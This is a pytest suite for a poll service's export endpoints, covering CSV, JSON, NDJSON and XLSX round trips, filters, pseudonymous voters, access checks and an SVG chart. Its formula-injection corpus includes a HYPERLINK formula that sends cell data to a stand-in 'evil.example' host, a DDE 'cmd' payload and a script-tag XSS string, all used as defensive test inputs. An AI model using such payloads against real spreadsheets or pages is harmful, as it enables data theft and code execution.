"""Exports for analysts: tallies, time series and pseudonymous votes as CSV, JSON and
NDJSON; formula defusing; filters; the account-wide file; the SVG chart; owner checks."""

from __future__ import annotations

import csv
import io
import itertools
import json
import xml.etree.ElementTree as ET
from collections import Counter
from datetime import UTC, datetime, timedelta

import openpyxl
import pandas as pd
import pytest
from openapi_schema_validator import OAS30Validator
from sqlalchemy import select

from service.exports import export as exports
from service.exports import spreadsheet
from service.infra.db import db
from service.infra.models import Ballot
from service.tallies import counts as tallies
from service.tallies import results

START = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
UNICODE_LABELS = ["Ja, natürlich 🙂", "日本語のラベル", 'עברית, "quoted"']
FORMULA_CORPUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "@SUM(1)",
    "+1",
    "-1+2",
    "\t=1+1",
    "\r=1+1",
    "\tjust a tab",
]
DATA_KINDS = ("tallies", "timeseries", "votes")
FORMATS = ("csv", "json", "ndjson")
SVG = "{http://www.w3.org/2000/svg}"


def export(client, headers, poll_id: str, **params):
    query = "&".join(f"{name}={value}" for name, value in params.items())
    return client.get(f"/api/v1/polls/{poll_id}/export?{query}", headers=headers)


def read_csv(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


def ids(poll: dict) -> list[int]:
    return [option["id"] for option in poll["options"]]


@pytest.fixture
def survey(make_poll):
    """A multiple-choice poll with unicode labels, other answers and comments."""
    return make_poll(options=UNICODE_LABELS, kind="multiple", allow_other=True,
                     allow_comment=True, duplicate_check="none")


@pytest.fixture
def voted(survey, vote, clock):
    """Seven ballots over four days (none on the second and third), some with contexts."""
    a, b, c = ids(survey)
    plan = [
        (START, [a], {"context": "/a"}),
        (START + timedelta(minutes=20), [a, b], {"context": "/b", "comment": "Nice, \"very\""}),
        (START + timedelta(hours=2), [c], {}),
        (START + timedelta(days=3), [b], {"context": "/a"}),
        (START + timedelta(days=3, hours=1), [], {"other": "Something else"}),
        (START + timedelta(days=3, hours=1), [a, c], {"context": "/a"}),
        (START + timedelta(days=3, hours=5), [b, c], {"comment": "line one\nline two"}),
    ]
    for moment, choices, fields in plan:
        clock.frozen = moment
        response = vote(survey, choices, **fields)
        assert response.status_code == 201, response.get_json()
    return survey


def database_counts(app, poll_id: str, context: str | None = None) -> tallies.Counts:
    with app.app_context():
        return tallies.from_database(session=db.session, poll_id=poll_id, context=context)


# Round trips -------------------------------------------------------------------------


def test_tallies_csv_read_back_with_csv_module_matches_the_database(app, client, auth, voted):
    rows = read_csv(export(client, auth, voted["id"], data="tallies", format="csv"))
    counts = database_counts(app, voted["id"])
    assert [row["option_label"] for row in rows] == UNICODE_LABELS
    assert {int(row["option_id"]): int(row["votes"]) for row in rows} == counts.options
    assert {row["poll_id"] for row in rows} == {voted["id"]}
    assert {row["question"] for row in rows} == {voted["question"]}


def test_tallies_csv_has_percent_and_wilson_interval_of_the_ballots(app, client, auth, voted):
    rows = read_csv(export(client, auth, voted["id"], data="tallies", format="csv"))
    total = database_counts(app, voted["id"]).total
    assert total == 7
    for row in rows:
        votes = int(row["votes"])
        assert float(row["percent"]) == round(votes / total * 100, 2)
        low, high = results.wilson_interval(votes, total)
        assert (float(row["ci95_low"]), float(row["ci95_high"])) == (low, high)
        assert low < float(row["percent"]) < high


def test_votes_csv_read_back_with_pandas_matches_the_database(app, client, auth, voted):
    body = export(client, auth, voted["id"], data="votes", format="csv").get_data()
    frame = pd.read_csv(io.BytesIO(body), dtype=str, keep_default_na=False)
    assert list(frame.columns) == list(exports.COLUMNS["votes"])
    counts = database_counts(app, voted["id"])
    assert len(frame) == counts.total
    chosen = Counter(int(option_id) for cell in frame["option_ids"] if cell
                     for option_id in cell.split(";"))
    assert {option_id: chosen[option_id] for option_id in ids(voted)} == counts.options
    assert (frame["other"] != "").sum() == counts.other
    assert pd.to_datetime(frame["created_at"], utc=True).is_monotonic_increasing


def test_tallies_csv_read_back_with_pandas_matches_the_database(app, client, auth, voted):
    body = export(client, auth, voted["id"], data="tallies", format="csv").get_data()
    frame = pd.read_csv(io.BytesIO(body))
    counts = database_counts(app, voted["id"])
    assert dict(zip(frame["option_id"], frame["votes"], strict=True)) == counts.options
    assert frame["ci95_low"].dtype.kind == "f" and frame["votes"].dtype.kind == "i"


def test_timeseries_csv_read_back_with_pandas_adds_up_to_the_database(app, client, auth,
                                                                      voted):
    body = export(client, auth, voted["id"], data="timeseries", format="csv").get_data()
    frame = pd.read_csv(io.BytesIO(body))
    counts = database_counts(app, voted["id"])
    assert frame.groupby("option_id")["votes"].sum().to_dict() == counts.options


@pytest.mark.parametrize("data", DATA_KINDS)
def test_ndjson_export_is_one_parsable_row_object_per_line(client, auth, voted, data):
    response = export(client, auth, voted["id"], data=data, format="ndjson")
    assert response.mimetype == "application/x-ndjson"
    lines = response.get_data(as_text=True).splitlines()
    rows = [json.loads(line) for line in lines]
    assert rows and all(list(row) == list(exports.COLUMNS[data]) for row in rows)
    csv_rows = read_csv(export(client, auth, voted["id"], data=data, format="csv"))
    assert len(rows) == len(csv_rows)


def openapi_validator(client, component: str) -> OAS30Validator:
    spec = client.get("/api/v1/openapi.json").get_json()
    schema = {"$ref": f"#/components/schemas/{component}", "components": spec["components"]}
    return OAS30Validator(schema)


@pytest.mark.parametrize(("data", "component"), [
    ("tallies", "TalliesExport"), ("timeseries", "TimeseriesExport"), ("votes", "VotesExport"),
])
def test_json_export_validates_against_the_schema_in_the_openapi_spec(client, auth, voted,
                                                                      data, component):
    document = export(client, auth, voted["id"], data=data, format="json").get_json()
    openapi_validator(client, component).validate(document)
    assert document["poll_id"] == voted["id"] and document["data"] == data
    assert len(document["rows"]) > 0


@pytest.mark.parametrize(("data", "component"), [
    ("tallies", "TallyRow"), ("timeseries", "TimeseriesRow"), ("votes", "VoteRow"),
])
def test_ndjson_rows_validate_against_the_row_schema_in_the_openapi_spec(client, auth, voted,
                                                                         data, component):
    validator = openapi_validator(client, component)
    lines = export(client, auth, voted["id"], data=data, format="ndjson").get_data(as_text=True)
    for line in lines.splitlines():
        validator.validate(json.loads(line))
    assert lines.endswith("\n")


def test_schema_validation_would_catch_a_wrong_row(client):
    validator = openapi_validator(client, "VoteRow")
    assert not validator.is_valid({"vote_id": "x", "created_at": "2026-01-01T00:00:00Z",
                                   "option_ids": ["1"], "other": None, "comment": None,
                                   "context": None, "voter": None})


def test_votes_rows_hold_each_ballot_with_its_options_in_poll_order(client, auth, voted):
    a, b, c = ids(voted)
    rows = read_csv(export(client, auth, voted["id"], data="votes", format="csv"))
    chosen = [row["option_ids"] for row in rows]
    # The fifth and sixth ballots were cast in the same instant: either may come first.
    assert chosen[:4] == [f"{a}", f"{a};{b}", f"{c}", f"{b}"]
    assert sorted(chosen[4:6]) == ["", f"{a};{c}"]
    assert chosen[6] == f"{b};{c}"
    assert [row["created_at"] for row in rows][:2] == ["2026-03-01T09:30:00Z",
                                                       "2026-03-01T09:50:00Z"]
    document = export(client, auth, voted["id"], data="votes", format="json").get_json()
    assert [row["option_ids"] for row in document["rows"]][:2] == [[a], [a, b]]
    assert [row["other"] for row in document["rows"]].count("Something else") == 1


def test_votes_csv_is_rfc4180_with_quotes_doubled_and_crlf_line_ends(client, auth, voted):
    body = export(client, auth, voted["id"], data="votes", format="csv").get_data(as_text=True)
    assert body.startswith(",".join(exports.COLUMNS["votes"]) + "\r\n")
    assert '"Nice, ""very"""' in body
    comments = [row["comment"] for row in csv.DictReader(io.StringIO(body, newline=""))]
    assert "line one\nline two" in comments and 'Nice, "very"' in comments


# Spreadsheet safety and unicode -------------------------------------------------------


@pytest.mark.parametrize("payload", FORMULA_CORPUS)
def test_formula_injection_in_a_context_comes_out_defused_in_csv(client, auth, survey, vote,
                                                                 payload):
    assert vote(survey, context=payload).status_code == 201
    row = read_csv(export(client, auth, survey["id"], data="votes", format="csv"))[0]
    assert row["context"] == "'" + payload
    raw = export(client, auth, survey["id"], data="votes", format="json").get_json()
    assert raw["rows"][0]["context"] == payload  # JSON is data, not a spreadsheet


@pytest.mark.parametrize("payload", [p for p in FORMULA_CORPUS if not p[0].isspace()])
def test_formula_injection_in_other_answers_and_comments_comes_out_defused(client, auth,
                                                                           survey, vote,
                                                                           payload):
    assert vote(survey, other=payload, comment=payload).status_code == 201
    row = read_csv(export(client, auth, survey["id"], data="votes", format="csv"))[0]
    assert (row["other"], row["comment"]) == ("'" + payload, "'" + payload)


@pytest.mark.parametrize("data", ["tallies", "timeseries"])
def test_formula_injection_in_labels_and_question_comes_out_defused(client, auth, make_poll,
                                                                    vote, data):
    labels = ['=HYPERLINK("http://evil.example")', "@SUM(1)", "+1", "-1+2"]
    poll = make_poll(question="=cmd|' /C calc'!A0", options=labels)
    vote(poll, [poll["options"][0]["id"]])
    rows = read_csv(export(client, auth, poll["id"], data=data, format="csv"))
    assert [row["option_label"] for row in rows][:4] == ["'" + label for label in labels]
    if data == "tallies":
        assert rows[0]["question"] == "'=cmd|' /C calc'!A0"


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@A1", "\t1", "\r1"])
def test_text_cells_starting_with_a_formula_trigger_get_a_quote(cell):
    assert exports.defuse(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["1", "a=1", " =1", "", "'=1", "Ja 🙂"])
def test_other_text_cells_are_left_alone(cell):
    assert exports.defuse(cell) == cell


def test_numbers_written_as_numbers_are_not_defused():
    text = "".join(exports.csv_text(("a", "b", "c"), [(-1, -2.5, "-3")]))
    assert text.splitlines()[1] == "-1,-2.5,'-3"


@pytest.mark.parametrize("fmt", FORMATS)
def test_unicode_labels_survive_every_format(client, auth, voted, fmt):
    response = export(client, auth, voted["id"], data="tallies", format=fmt)
    text = response.get_data().decode("utf-8")
    if fmt == "csv":
        labels = [row["option_label"] for row in read_csv(response)]
    elif fmt == "json":
        labels = [row["option_label"] for row in json.loads(text)["rows"]]
    else:
        labels = [json.loads(line)["option_label"] for line in text.splitlines()]
    assert labels == UNICODE_LABELS


def test_bom_option_starts_the_csv_with_a_utf8_byte_order_mark(client, auth, voted):
    with_bom = export(client, auth, voted["id"], data="tallies", format="csv", bom=1).get_data()
    without = export(client, auth, voted["id"], data="tallies", format="csv").get_data()
    assert with_bom.startswith(b"\xef\xbb\xbfpoll_id,")
    assert without.startswith(b"poll_id,")
    assert with_bom[3:] == without
    assert pd.read_csv(io.BytesIO(with_bom), encoding="utf-8-sig").columns[0] == "poll_id"


# HTTP details -----------------------------------------------------------------------


@pytest.mark.parametrize("data", DATA_KINDS)
@pytest.mark.parametrize(("fmt", "mimetype"), [
    ("csv", "text/csv"), ("json", "application/json"), ("ndjson", "application/x-ndjson"),
])
def test_export_is_an_attachment_named_after_poll_data_and_format(client, auth, voted, data,
                                                                  fmt, mimetype):
    response = export(client, auth, voted["id"], data=data, format=fmt)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="{voted["id"]}-{data}.{fmt}"')
    assert response.mimetype == mimetype
    assert response.headers["Cache-Control"] == "private, no-store"


def test_format_defaults_to_csv(client, auth, voted):
    response = export(client, auth, voted["id"], data="votes")
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"


def test_export_response_is_streamed_not_buffered(client, auth, voted):
    response = client.get(f"/api/v1/polls/{voted['id']}/export?data=votes", headers=auth,
                          buffered=False)
    try:
        assert response.is_streamed
        first = next(iter(response.response))
        assert first.startswith(b"vote_id,created_at")
    finally:
        response.close()


@pytest.mark.parametrize(("query", "field"), [
    ("format=csv", "data"),
    ("data=everything", "data"),
    ("data=votes&format=xls", "format"),
    ("data=timeseries&interval=week", "interval"),
    ("data=votes&interval=day", "interval"),
    ("data=votes&from=yesterday", "from"),
    ("data=votes&to=2026-13-01", "to"),
    ("data=votes&from=2026-03-02&to=2026-03-01", "to"),
    ("data=timeseries&from=2026-03-01T10:00:00Z&to=2026-03-01T10:00:00Z", "to"),
    ("data=votes&format=json&bom=1", "bom"),
    ("data=votes&bom=maybe", "bom"),
    ("data=votes&context=", "context"),
])
def test_invalid_parameters_are_422_naming_the_field(client, auth, voted, query, field):
    response = client.get(f"/api/v1/polls/{voted['id']}/export?{query}", headers=auth)
    assert response.status_code == 422
    assert response.mimetype == "application/problem+json"
    body = response.get_json()
    assert body["code"] == "validation_error"
    assert field in body["errors"]


@pytest.mark.parametrize("path", ["export?data=votes", "timeseries.svg?interval=day"])
def test_exports_need_an_api_key(client, survey, path):
    response = client.get(f"/api/v1/polls/{survey['id']}/{path}")
    assert response.status_code == 401
    assert response.get_json()["code"] == "unauthorized"


@pytest.mark.parametrize("path", ["export?data=votes", "timeseries.svg?interval=day"])
def test_another_owners_poll_cannot_be_exported(client, other_auth, survey, path):
    response = client.get(f"/api/v1/polls/{survey['id']}/{path}", headers=other_auth)
    assert response.status_code == 403
    assert response.get_json()["code"] == "forbidden"


@pytest.mark.parametrize("path", ["export?data=votes", "timeseries.svg?interval=day"])
def test_unknown_poll_cannot_be_exported(client, auth, path):
    response = client.get(f"/api/v1/polls/NoSuchPoll123/{path}", headers=auth)
    assert response.status_code == 404
    assert response.get_json()["code"] == "not_found"


def test_openapi_spec_documents_the_export_endpoints_and_shapes(client):
    spec = client.get("/api/v1/openapi.json").get_json()
    export_op = spec["paths"]["/api/v1/polls/{poll_id}/export"]["get"]
    content = export_op["responses"]["200"]["content"]
    assert {"text/csv", "application/json", "application/x-ndjson"} <= set(content)
    assert {"data", "format", "interval", "from", "to", "context", "bom"} <= {
        parameter["name"] for parameter in export_op["parameters"]}
    assert "/api/v1/export" in spec["paths"]
    assert "/api/v1/polls/{poll_id}/timeseries.svg" in spec["paths"]
    assert set(spec["components"]["schemas"]["TallyRow"]["required"]) == set(
        exports.COLUMNS["tallies"])


# Time series, filters ------------------------------------------------------------------


def test_daily_timeseries_fills_every_bucket_from_first_vote_to_last_with_zeros(client, auth,
                                                                               voted):
    rows = read_csv(export(client, auth, voted["id"], data="timeseries", format="csv"))
    days = ["2026-03-01T00:00:00Z", "2026-03-02T00:00:00Z", "2026-03-03T00:00:00Z",
            "2026-03-04T00:00:00Z"]
    assert [row["bucket_start"] for row in rows] == [day for day in days for _ in range(3)]
    a, b, c = ids(voted)
    by_day = {(row["bucket_start"][:10], int(row["option_id"])): int(row["votes"])
              for row in rows}
    assert [by_day["2026-03-01", option] for option in (a, b, c)] == [2, 1, 1]
    assert [by_day["2026-03-02", option] for option in (a, b, c)] == [0, 0, 0]
    assert [by_day["2026-03-03", option] for option in (a, b, c)] == [0, 0, 0]
    assert [by_day["2026-03-04", option] for option in (a, b, c)] == [1, 2, 2]
    assert [row["option_label"] for row in rows[:3]] == UNICODE_LABELS


def test_hourly_buckets_start_on_the_utc_hour(client, auth, voted):
    rows = read_csv(export(client, auth, voted["id"], data="timeseries", format="csv",
                           interval="hour", to="2026-03-02T00:00:00Z"))
    starts = list(dict.fromkeys(row["bucket_start"] for row in rows))
    assert starts == ["2026-03-01T09:00:00Z", "2026-03-01T10:00:00Z", "2026-03-01T11:00:00Z"]
    assert [int(row["votes"]) for row in rows if row["bucket_start"].endswith("10:00:00Z")] \
        == [0, 0, 0]


def test_hourly_timeseries_spans_days_without_gaps(client, auth, voted):
    rows = read_csv(export(client, auth, voted["id"], data="timeseries", format="csv",
                           interval="hour"))
    starts = [datetime.fromisoformat(start) for start in
              dict.fromkeys(row["bucket_start"] for row in rows)]
    assert starts[0] == datetime(2026, 3, 1, 9, tzinfo=UTC)
    assert starts[-1] == datetime(2026, 3, 4, 14, tzinfo=UTC)
    assert all(b - a == timedelta(hours=1) for a, b in itertools.pairwise(starts))


@pytest.mark.parametrize("params", [
    {"data": "votes", "format": "json"},
    {"data": "timeseries", "format": "json"},
    {"data": "tallies", "format": "json"},
])
def test_from_and_to_select_ballots_in_a_half_open_window(client, auth, voted, params):
    document = export(client, auth, voted["id"], **params, **{
        "from": "2026-03-01T09:50:00Z", "to": "2026-03-04T10:30:00Z"}).get_json()
    assert document["filters"] == {"from": "2026-03-01T09:50:00Z",
                                   "to": "2026-03-04T10:30:00Z", "context": None}
    if params["data"] == "votes":  # the ballots at exactly `to` are left out
        created = [row["created_at"] for row in document["rows"]]
        assert created == ["2026-03-01T09:50:00Z", "2026-03-01T11:30:00Z",
                           "2026-03-04T09:30:00Z"]
    elif params["data"] == "timeseries":
        assert sum(row["votes"] for row in document["rows"]) == 4  # a+b, c, b
        assert document["rows"][0]["bucket_start"] == "2026-03-01T00:00:00Z"
    else:
        assert sum(row["votes"] for row in document["rows"]) == 4


def test_times_without_an_offset_are_read_as_utc(client, auth, voted):
    document = export(client, auth, voted["id"], data="votes", format="json",
                      **{"from": "2026-03-04"}).get_json()
    assert document["filters"]["from"] == "2026-03-04T00:00:00Z"
    assert len(document["rows"]) == 4


@pytest.mark.parametrize("data", DATA_KINDS)
def test_context_filter_keeps_only_ballots_cast_with_that_context(app, client, auth, voted,
                                                                  data):
    document = export(client, auth, voted["id"], data=data, format="json",
                      context="/a").get_json()
    counts = database_counts(app, voted["id"], context="/a")
    assert counts.total == 3
    if data == "votes":
        assert [row["context"] for row in document["rows"]] == ["/a"] * 3
    else:
        votes = Counter()
        for row in document["rows"]:
            votes[row["option_id"]] += row["votes"]
        assert dict(votes) == {option: counts.options.get(option, 0) for option in ids(voted)}


@pytest.mark.parametrize("data", DATA_KINDS)
def test_poll_without_votes_exports_a_header_or_zero_tallies(client, auth, survey, data):
    rows = read_csv(export(client, auth, survey["id"], data=data, format="csv"))
    if data == "tallies":
        assert [(row["votes"], row["percent"], row["ci95_low"]) for row in rows] == [
            ("0", "0.0", "")] * 3
    else:
        assert rows == []
    document = export(client, auth, survey["id"], data=data, format="json").get_json()
    assert len(document["rows"]) == len(rows)


# Pseudonymous voters ------------------------------------------------------------------


def test_voter_is_a_per_poll_pseudonym_stable_for_one_browser(app, client, auth, make_poll,
                                                              vote):
    first = make_poll(duplicate_check="none")
    second = make_poll(question="Another?", duplicate_check="none")
    alice, bob = app.test_client(), app.test_client()
    for poll in (first, second):
        for browser in (alice, alice, bob):
            assert vote(poll, browser=browser).status_code == 201
    voters = [row["voter"] for row in
              read_csv(export(client, auth, first["id"], data="votes", format="csv"))]
    others = [row["voter"] for row in
              read_csv(export(client, auth, second["id"], data="votes", format="csv"))]
    assert voters[0] == voters[1] != voters[2]
    assert not set(voters) & set(others)  # two polls' voters cannot be joined
    with app.app_context():
        stored = db.session.execute(select(Ballot.cookie_hash, Ballot.ip_hash)).all()
    stored_values = {value for row in stored for value in row}
    cookie = alice.get_cookie("pollbox_voter").value
    for voter in voters:
        assert len(voter) == 2 * exports.PSEUDONYM_BYTES
        assert voter not in stored_values
        assert voter not in cookie and "203.0.113.7" not in voter


# Account-wide export ------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_account_export_has_every_poll_of_the_owner_and_no_one_elses(app, client, auth,
                                                                     other_auth, voted,
                                                                     make_poll, fmt):
    second = make_poll(question="Second?", options=["Yes", "No"])
    someone_elses = client.post("/api/v1/polls", headers=other_auth,
                                json={"question": "Not mine", "options": ["x", "y"]})
    response = client.get(f"/api/v1/export?format={fmt}", headers=auth)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith(
        'attachment; filename="pollbox-tallies-')
    if fmt == "csv":
        rows = read_csv(response)
    else:
        document = response.get_json()
        openapi_validator(client, "AccountExport").validate(document)
        rows = document["rows"]
    polls_seen = list(dict.fromkeys(row["poll_id"] for row in rows))
    assert set(polls_seen) == {voted["id"], second["id"]}
    assert someone_elses.get_json()["id"] not in polls_seen
    counts = database_counts(app, voted["id"])
    mine = {int(row["option_id"]): int(row["votes"]) for row in rows
            if row["poll_id"] == voted["id"]}
    assert mine == counts.options


def test_account_export_needs_an_api_key(client):
    response = client.get("/api/v1/export?format=csv")
    assert response.status_code == 401


def test_account_export_rejects_an_unknown_format(client, auth):
    response = client.get("/api/v1/export?format=xls", headers=auth)
    assert response.status_code == 422
    assert "format" in response.get_json()["errors"]


# The chart ----------------------------------------------------------------------------


def chart(client, headers, poll_id: str, query: str = "interval=day"):
    return client.get(f"/api/v1/polls/{poll_id}/timeseries.svg?{query}", headers=headers)


def test_timeseries_chart_is_svg_with_axes_lines_and_a_legend(client, auth, voted):
    response = chart(client, auth, voted["id"])
    assert response.status_code == 200
    assert response.mimetype == "image/svg+xml"
    assert response.headers["Content-Security-Policy"] == (
        "default-src 'none'; style-src 'unsafe-inline'")
    root = ET.fromstring(response.get_data())
    assert root.tag == f"{SVG}svg"
    texts = ["".join(node.itertext()) for node in root.iter(f"{SVG}text")]
    assert "Votes per day" in texts and "Day (UTC)" in texts
    assert "2026-03-01" in texts and "2026-03-04" in texts
    assert len(list(root.iter(f"{SVG}polyline"))) == 3
    legend = next(g for g in root.iter(f"{SVG}g") if g.get("class") == "legend")
    legend_texts = ["".join(node.itertext()) for node in legend.iter(f"{SVG}text")]
    assert legend_texts == [f"{label} ({n})" for label, n in zip(UNICODE_LABELS, (3, 3, 3),
                                                                 strict=True)]


def test_chart_escapes_every_text_from_the_poll(client, auth, make_poll, vote):
    labels = ["<script>alert(1)</script>", 'Tom & "Jerry"', "]]><x/>"]
    poll = make_poll(question="<b>Bold</b> & co", options=labels)
    vote(poll, [poll["options"][0]["id"]])
    body = chart(client, auth, poll["id"], "interval=hour").get_data(as_text=True)
    assert "<script>" not in body and "<b>" not in body
    root = ET.fromstring(body)
    texts = ["".join(node.itertext()) for node in root.iter(f"{SVG}text")]
    assert "<b>Bold</b> & co" in texts
    assert {f"{label} ({n})" for label, n in zip(labels, (1, 0, 0), strict=True)} <= set(texts)


def test_chart_of_a_poll_without_votes_still_draws_axes_and_legend(client, auth, survey):
    root = ET.fromstring(chart(client, auth, survey["id"]).get_data())
    texts = ["".join(node.itertext()) for node in root.iter(f"{SVG}text")]
    assert "No votes in this range yet." in texts
    assert f"{UNICODE_LABELS[0]} (0)" in texts


def test_chart_refuses_more_buckets_than_it_can_draw(client, auth, survey, vote, clock):
    clock.frozen = START
    vote(survey)
    clock.advance(days=100)
    vote(survey)
    response = chart(client, auth, survey["id"], "interval=hour")
    assert response.status_code == 422
    assert "interval" in response.get_json()["errors"]
    assert chart(client, auth, survey["id"], "interval=day").status_code == 200


@pytest.mark.parametrize(("query", "field"), [
    ("interval=week", "interval"), ("from=soon", "from"),
    ("from=2026-03-02&to=2026-03-01", "to"),
])
def test_chart_rejects_invalid_parameters_naming_the_field(client, auth, survey, query, field):
    response = chart(client, auth, survey["id"], query)
    assert response.status_code == 422
    assert field in response.get_json()["errors"]


# Spreadsheets (format=xlsx): read back with openpyxl, compared cell by cell with the CSV --

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def read_xlsx(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert len(book.worksheets) == 1
    return book.worksheets[0]


def as_csv_would_write(value) -> str:
    """A typed cell as the CSV writes the same value."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%dT%H:%M:%SZ")
    if isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r")):
        return "'" + value  # the CSV defuses what a spreadsheet would run
    return str(value)


@pytest.mark.parametrize("data", ["tallies", "timeseries", "votes"])
def test_an_xlsx_export_holds_the_csvs_cells_typed(client, auth, voted, data):
    as_csv = read_csv(export(client, auth, voted["id"], data=data, format="csv"))
    response = export(client, auth, voted["id"], data=data, format="xlsx")

    assert response.status_code == 200
    assert response.mimetype == XLSX
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="{voted["id"]}-{data}.xlsx"')
    sheet = read_xlsx(response.get_data())
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == list(as_csv[0])
    assert sheet.freeze_panes == "A2"
    assert len(rows) - 1 == len(as_csv)
    for typed, written in zip(rows[1:], as_csv, strict=True):
        assert [as_csv_would_write(value) for value in typed] == list(written.values())
    numbers = {"tallies": "votes", "timeseries": "votes", "votes": None}[data]
    if numbers:
        column = rows[0].index(numbers)
        assert all(isinstance(row[column], int) for row in rows[1:])
    times = {"timeseries": "bucket_start", "votes": "created_at"}.get(data)
    if times:
        column = rows[0].index(times)
        assert all(isinstance(row[column], datetime) for row in rows[1:])


@pytest.mark.parametrize("payload", [p for p in FORMULA_CORPUS if not p[0].isspace()])
def test_text_that_looks_like_a_formula_is_a_text_cell(client, auth, survey, vote, payload):
    assert vote(survey, other=payload, comment=payload, context=payload).status_code == 201
    sheet = read_xlsx(export(client, auth, survey["id"], data="votes",
                             format="xlsx").get_data())
    header = [cell.value for cell in sheet[1]]
    for name in ("other", "comment", "context"):
        cell = sheet.cell(row=2, column=header.index(name) + 1)
        assert cell.data_type == "s"  # a string, never "f" (a formula)
        assert cell.value == payload  # exactly what was typed


def test_rows_beyond_one_sheet_are_refused_naming_the_format(client, auth, voted,
                                                              monkeypatch):
    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 3)
    response = export(client, auth, voted["id"], data="votes", format="xlsx")
    assert response.status_code == 422
    assert response.mimetype == "application/problem+json"
    assert "format" in response.get_json()["errors"]


def test_the_command_line_writes_a_spreadsheet(app, auth, voted, tmp_path):
    target = tmp_path / "votes.xlsx"
    result = app.test_cli_runner().invoke(args=[
        "export", voted["id"], "--data", "votes", "--format", "xlsx", "-o", str(target)])
    assert result.exit_code == 0, result.output
    sheet = read_xlsx(target.read_bytes())
    assert sheet.max_row == 1 + 7  # the header and the seven ballots


def test_the_account_export_and_the_openapi_document_offer_xlsx(client, auth, voted):
    response = client.get("/api/v1/export?format=xlsx", headers=auth)
    assert response.status_code == 200 and response.mimetype == XLSX
    assert read_xlsx(response.get_data()).max_row == 1 + len(voted["options"])
    spec = client.get("/api/v1/openapi.json").get_json()
    content = spec["paths"]["/api/v1/polls/{poll_id}/export"]["get"]["responses"]["200"]
    assert XLSX in content["content"]
